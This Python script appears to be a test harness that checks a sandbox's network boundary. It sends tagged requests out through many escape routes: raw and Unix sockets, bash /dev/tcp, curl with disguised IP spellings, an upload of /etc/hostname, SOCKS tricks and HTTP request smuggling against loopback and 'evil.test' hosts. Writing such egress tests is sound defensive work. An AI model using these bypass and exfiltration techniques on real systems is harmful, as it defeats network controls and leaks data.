"""Ways of getting out. Each sends a token of its own; whoever sees it on the
other side knows which way was open. Outside of the boundary all of them are."""

import os
import signal
import socket
import ssl
import subprocess
import sys
import threading

where, place = sys.argv[1], sys.argv[2]
port = {name: int(value) for name, value in (word.split("=") for word in sys.argv[3].split())}
proxy = ("198.18.0.1", 3128) if where == "inside" else ("127.0.0.1", port["proxy"])
GOOD, BAD, UDP, TLS = port["good"], port["bad"], port["udp"], port["tls"]
OTHER = "127.0.0.2"
attempts = {}


def attempt(work):
    attempts[work.__name__] = work
    return work


def many(name, cases):
    def add(key, work):
        attempts[f"{name}_{key}"] = work

    for key, work in cases.items():
        add(key, work)


def http(token, host="x"):
    return f"GET /{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def dial(family, address, data, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(3)
        one.connect(address)
        one.sendall(data)
        try:
            return one.recv(4096)
        except OSError:
            return b""


def send(family, address, data, kind=socket.SOCK_DGRAM, flags=0):
    with socket.socket(family, kind) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.sendto(data, flags, address)


def run(*words, **variables):
    environment = {**os.environ, **variables}
    silent = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "stdin": subprocess.DEVNULL}
    subprocess.run(words, timeout=6, env=environment, **silent, check=False)


def curl(*words, **variables):
    run("curl", "-sS", "-m", "4", *words, **variables)


V4, V6 = socket.AF_INET, socket.AF_INET6

# Sockets of every family, straight away.
many(
    "tcp",
    {
        "other_address": lambda t: dial(V4, (OTHER, BAD), http(t)),
        "same_address_other_port": lambda t: dial(V4, ("127.0.0.1", BAD), http(t)),
        "v6": lambda t: dial(V6, ("::1", BAD), http(t)),
        "mapped": lambda t: dial(V6, ("::ffff:127.0.0.2", BAD), http(t)),
        "nowhere": lambda t: dial(V4, ("0.0.0.0", BAD), http(t)),
        "nowhere_v6": lambda t: dial(V6, ("::", BAD), http(t)),
        "far_loopback": lambda t: dial(V4, ("127.255.1.3", BAD), http(t)),
        "short": lambda t: dial(V4, (socket.inet_ntoa(socket.inet_aton("127.2")), BAD), http(t)),
        "mptcp": lambda t: dial(V4, (OTHER, BAD), http(t), protocol=262),
        "fast_open": lambda t: send(V4, (OTHER, BAD), http(t), socket.SOCK_STREAM, 0x20000000),
        "fast_open_v6": lambda t: send(V6, ("::1", BAD), http(t), socket.SOCK_STREAM, 0x20000000),
    },
)
many(
    "udp",
    {
        "v4": lambda t: send(V4, (OTHER, UDP), t.encode()),
        "v6": lambda t: send(V6, ("::1", UDP), t.encode()),
        "mapped": lambda t: send(V6, ("::ffff:127.0.0.2", UDP), t.encode()),
        "broadcast": lambda t: send(V4, ("127.255.255.255", UDP), t.encode()),
        "connected": lambda t: dial(V4, ("127.0.0.1", UDP), t.encode(), socket.SOCK_DGRAM),
        "quic": lambda t: send(V4, (OTHER, UDP), b"\xc3\0\0\0\x01\x08" + b"\0" * 1180 + t.encode()),
        "dns": lambda t: send(V4, (OTHER, UDP), b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(t)]) + t.encode() + b"\4test\0\0\x10\0\1"),
    },
)


@attempt
def tcp_fast_open_at_connect(t):
    with socket.socket() as one:
        one.setsockopt(socket.IPPROTO_TCP, 30, 1)
        one.settimeout(3)
        one.connect((OTHER, BAD))
        one.sendall(http(t))
        one.recv(100)


@attempt
def tcp_from_a_bound_port(t):
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        one.settimeout(3)
        one.connect((OTHER, BAD))
        one.sendall(http(t))
        one.recv(100)


@attempt
def tcp_not_waiting(t):
    with socket.socket() as one:
        one.setblocking(False)
        one.connect_ex((OTHER, BAD))
        import select

        select.select([], [one], [], 2)
        one.send(http(t))
        select.select([one], [], [], 1)


@attempt
def tcp_once_more(t):
    """A connection that was good, taken apart and made anew."""
    with socket.socket() as one:
        one.settimeout(3)
        one.connect(("127.0.0.1", GOOD))
        import ctypes

        nowhere = b"\0" * 16
        ctypes.CDLL(None).connect(one.fileno(), nowhere, 16)
        one.connect((OTHER, BAD))
        one.sendall(http(t))
        one.recv(100)


@attempt
def tcp_by_a_thread(t):
    thread = threading.Thread(target=lambda: dial(V4, (OTHER, BAD), http(t)))
    thread.start()
    thread.join()


@attempt
def tcp_by_who_stays_behind(t):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                dial(V4, (OTHER, BAD), http(t))
            finally:
                os._exit(0)
        os._exit(0)
    import time

    time.sleep(1)


@attempt
def udp_sendmsg(t):
    with socket.socket(V4, socket.SOCK_DGRAM) as one:
        one.sendmsg([t.encode()], [], 0, (OTHER, UDP))


def unix(kind, to):
    def work(t):
        with socket.socket(socket.AF_UNIX, kind) as one:
            one.settimeout(2)
            one.connect(to)
            one.send(t.encode())
            if kind != socket.SOCK_DGRAM:
                one.recv(10)

    return work


STREAM, DGRAM, SEQ = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET
many(
    "unix",
    {
        "stream": unix(STREAM, place + "/stream.sock"),
        "dgram": unix(DGRAM, place + "/dgram.sock"),
        "seqpacket": unix(SEQ, place + "/seqpacket.sock"),
        "by_a_link": unix(STREAM, place + "/link.sock"),
        "by_proc": unix(STREAM, "/proc/self/root" + place + "/stream.sock"),
        "abstract": unix(STREAM, "\0" + place + "/stream"),
        "abstract_dgram": unix(DGRAM, "\0" + place + "/dgram"),
        "abstract_seqpacket": unix(SEQ, "\0" + place + "/seqpacket"),
        "by_curl": lambda t: curl("--unix-socket", place + "/stream.sock", f"http://x/{t}"),
        "abstract_by_curl": lambda t: curl("--abstract-unix-socket", place + "/stream", f"http://x/{t}"),
    },
)


@attempt
def unix_unconnected_dgram(t):
    with socket.socket(socket.AF_UNIX, DGRAM) as one:
        one.sendto(t.encode(), place + "/dgram.sock")


@attempt
def unix_from_its_directory(t):
    before = os.getcwd()
    os.chdir(place)
    try:
        unix(STREAM, "stream.sock")(t)
    finally:
        os.chdir(before)


# Programs that know no proxy, or another one.
second = f"http://127.0.0.1:{port['proxy']}"
to = f"http://{OTHER}:{BAD}/"
many(
    "program",
    {
        "dev_tcp": lambda t: run("bash", "-c", f"exec 3<>/dev/tcp/{OTHER}/{BAD}; printf 'GET /{t} HTTP/1.0\\r\\n\\r\\n' >&3; head -c 10 <&3"),
        "dev_udp": lambda t: run("bash", "-c", f"echo {t} >/dev/udp/{OTHER}/{UDP}"),
        "curl_without_a_proxy": lambda t: curl("--noproxy", "*", to + t),
        "curl_decimal": lambda t: curl("--noproxy", "*", f"http://2130706434:{BAD}/{t}"),
        "curl_octal": lambda t: curl("--noproxy", "*", f"http://0177.0.0.2:{BAD}/{t}"),
        "curl_hexadecimal": lambda t: curl("--noproxy", "*", f"http://0x7f000002:{BAD}/{t}"),
        "curl_by_name": lambda t: curl("--noproxy", "*", f"http://localhost:{BAD}/{t}"),
        "curl_pinned": lambda t: curl("--noproxy", "*", "--resolve", f"good.test:{BAD}:{OTHER}", f"http://good.test:{BAD}/{t}"),
        "curl_connect_to": lambda t: curl("--noproxy", "*", "--connect-to", f"::{OTHER}:{BAD}", f"http://127.0.0.1:{GOOD}/{t}"),
        "second_proxy": lambda t: curl("--noproxy", "", "-x", second, to + t),
        "second_proxy_by_variable": lambda t: curl(to + t, http_proxy=second, HTTP_PROXY=second, NO_PROXY="", no_proxy=""),
        "second_proxy_tunnel": lambda t: curl("--noproxy", "", "-p", "-x", second, to + t),
        "second_socks": lambda t: curl("--noproxy", "", "-x", f"socks5h://127.0.0.1:{port['proxy']}", to + t),
        "gopher": lambda t: curl("--noproxy", "*", f"gopher://{OTHER}:{BAD}/_{t}"),
        "dict": lambda t: curl("--noproxy", "*", f"dict://{OTHER}:{BAD}/d:{t}"),
        "tftp": lambda t: curl("--noproxy", "*", f"tftp://{OTHER}:{UDP}/{t}"),
        "web_socket": lambda t: curl("--noproxy", "*", "-H", "Connection: Upgrade", "-H", "Upgrade: websocket", "-H", "Sec-WebSocket-Version: 13", "-H", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", to + t),
        "upload": lambda t: curl("--noproxy", "*", "-T", "/etc/hostname", "-H", f"X-T: {t}", to),
        "git": lambda t: run("git", "ls-remote", f"git://{OTHER}:{BAD}/{t}"),
        "git_http": lambda t: run("git", "-c", "http.proxy=", "ls-remote", to + t),
        "python": lambda t: run("/usr/bin/python3", "-c", f"import urllib.request as u; u.build_opener(u.ProxyHandler({{}})).open('{to}{t}', timeout=3)"),
        "node": lambda t: run("node", "-e", f"require('http').get('{to}{t}')"),
        "node_udp": lambda t: run("node", "-e", f"const s = require('dgram').createSocket('udp4'); s.send('{t}', {UDP}, '{OTHER}', () => s.close())"),
        "perl": lambda t: run("perl", "-MIO::Socket::INET", "-e", f"print {{IO::Socket::INET->new('{OTHER}:{BAD}')}} \"GET /{t} HTTP/1.0\\r\\n\\r\\n\"; sleep 1"),
        "openssl": lambda t: run("openssl", "s_client", "-connect", f"127.0.0.1:{TLS}", "-servername", f"{t}.test"),
    },
)


# The proxy itself.
def through(data, then=b""):
    with socket.create_connection(proxy, 3) as one:
        one.settimeout(3)
        one.sendall(data)
        try:
            one.recv(4096)
            if then:
                one.sendall(then)
                one.recv(4096)
        except OSError:
            pass


def target(host, t, header=None, more=""):
    return f"GET http://{host}/{t} HTTP/1.1\r\nHost: {header or host}\r\n{more}Connection: close\r\n\r\n".encode()


def connect(host):
    return f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


spellings = {
    "other_address": f"{OTHER}:{BAD}",
    "other_port": f"127.0.0.1:{BAD}",
    "decimal": f"2130706434:{BAD}",
    "octal": f"0177.0.0.2:{BAD}",
    "hexadecimal": f"0x7f000002:{BAD}",
    "short": f"127.2:{BAD}",
    "mapped": f"[::ffff:127.0.0.2]:{BAD}",
    "v6": f"[::1]:{BAD}",
    "nowhere": f"0.0.0.0:{BAD}",
    "name": f"localhost:{BAD}",
}
many("proxy_to", {key: lambda t, host=host: through(target(host, t)) for key, host in spellings.items()})
many("tunnel_to", {key: lambda t, host=host: through(connect(host), http(t)) for key, host in spellings.items()})


def socks(address, t, command=1):
    with socket.create_connection(proxy, 3) as one:
        one.settimeout(3)
        one.sendall(b"\x05\x01\0")
        one.recv(2)
        one.sendall(bytes([5, command, 0]) + address)
        answer = one.recv(64)
        if command == 3:
            relay = (socket.inet_ntoa(answer[4:8]), int.from_bytes(answer[8:10], "big"))
            head = b"\0\0\0\x01" + socket.inet_aton(OTHER) + UDP.to_bytes(2, "big")
            send(V4, relay, head + t.encode())
            return
        one.sendall(http(t))
        try:
            one.recv(64)
        except OSError:
            pass


def name(text, at=BAD):
    return b"\x03" + bytes([len(text)]) + text.encode() + at.to_bytes(2, "big")


END = BAD.to_bytes(2, "big")
many(
    "socks",
    {
        "address": lambda t: socks(b"\x01" + socket.inet_aton(OTHER) + END, t),
        "v6": lambda t: socks(b"\x04" + socket.inet_pton(V6, "::1") + END, t),
        "mapped": lambda t: socks(b"\x04" + socket.inet_pton(V6, "::ffff:127.0.0.2") + END, t),
        "name": lambda t: socks(name("localhost"), t),
        "decimal": lambda t: socks(name("2130706434"), t),
        "datagrams": lambda t: socks(b"\x01\0\0\0\0\0\0", t, 3),
        "version_4": lambda t: through(b"\x04\x01" + END + socket.inet_aton(OTHER) + b"\0", http(t)),
    },
)

# Where the host is good, and what is said to it is meant for another.
evil = "{}.evil.test".format
good = f"127.0.0.1:{GOOD}"


def straight(data):
    dial(V4, ("127.0.0.1", GOOD), data)


many(
    "host",
    {
        "of_another": lambda t: straight(http("x", evil(t))),
        "of_another_at_the_proxy": lambda t: through(target(good, "x", evil(t))),
        "of_another_in_a_tunnel": lambda t: through(connect(good), http("x", evil(t))),
        "twice": lambda t: straight(f"GET / HTTP/1.1\r\nHost: {good}\r\nHost: {evil(t)}\r\nConnection: close\r\n\r\n".encode()),
        "folded": lambda t: straight(f"GET / HTTP/1.1\r\nHost: {good}\r\n {evil(t)}\r\nConnection: close\r\n\r\n".encode()),
        "in_the_target": lambda t: straight(f"GET http://{evil(t)}/ HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\n\r\n".encode()),
        "second_in_line": lambda t: straight(f"GET / HTTP/1.1\r\nHost: {good}\r\n\r\n".encode() + http("x", evil(t))),
        "behind_two_lengths": lambda t: straight(
            f"POST / HTTP/1.1\r\nHost: {good}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode() + http("x", evil(t))
        ),
        "behind_a_hidden_length": lambda t: straight(
            f"POST / HTTP/1.1\r\nHost: {good}\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n".encode() + http("x", evil(t))
        ),
        "behind_bare_lines": lambda t: straight(f"GET / HTTP/1.1\nHost: {good}\n\nGET / HTTP/1.1\nHost: {evil(t)}\n\n".encode()),
        "in_an_oversized_header": lambda t: straight(f"GET / HTTP/1.1\r\nHost: {good}\r\nX: {'a' * 400_000}{t}\r\nConnection: close\r\n\r\n".encode()),
        "with_an_end_in_it": lambda t: straight(f"GET / HTTP/1.1\r\nHost: {good}\r\nX: a\0{t}\r\nConnection: close\r\n\r\n".encode()),
    },
)


def over_tls(name, tunnel):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    at = proxy if tunnel else ("127.0.0.1", TLS)
    with socket.create_connection(at, 3) as one:
        one.settimeout(3)
        if tunnel:
            one.sendall(connect(f"127.0.0.1:{TLS}"))
            one.recv(4096)
        with context.wrap_socket(one, server_hostname=name) as stream:
            stream.sendall(b"x")


many(
    "server_name",
    {
        "of_another": lambda t: over_tls(evil(t), False),
        "of_another_in_a_tunnel": lambda t: over_tls(evil(t), True),
    },
)
many(
    "led",
    {
        "by_a_redirect": lambda t: curl("-L", f"http://{good}/redirect?to={(to + t).encode().hex()}"),
        "by_a_redirect_without_a_proxy": lambda t: curl("--noproxy", "*", "-L", f"http://{good}/redirect?to={(to + t).encode().hex()}"),
    },
)


@attempt
def around_in_a_circle(t):
    with socket.create_connection(proxy, 3) as one:
        one.settimeout(3)
        for step in (connect("%s:%d" % proxy), connect(f"{OTHER}:{BAD}"), http(t)):
            one.sendall(step)
            one.recv(4096)


def tried(name, work):
    """In a process of its own, so that none is in the way of another."""
    child = os.fork()
    if child:
        return child
    os.dup2(os.open("/dev/null", os.O_RDWR), 2)
    try:
        work(f"{where}-{name.replace('_', '-')}-t")
    except BaseException:
        pass
    os._exit(0)


signal.alarm(100)
running = []
for key, work in attempts.items():
    running.append(tried(key, work))
    if len(running) == 12:
        os.waitpid(running.pop(0), 0)
for child in running:
    os.waitpid(child, 0)
# That the good way is open shows that the others were closed.
dial(V4, ("127.0.0.1", GOOD), http(f"{where}-the-good-way-t", good))
print("\n".join(key.replace("_", "-") for key in attempts))
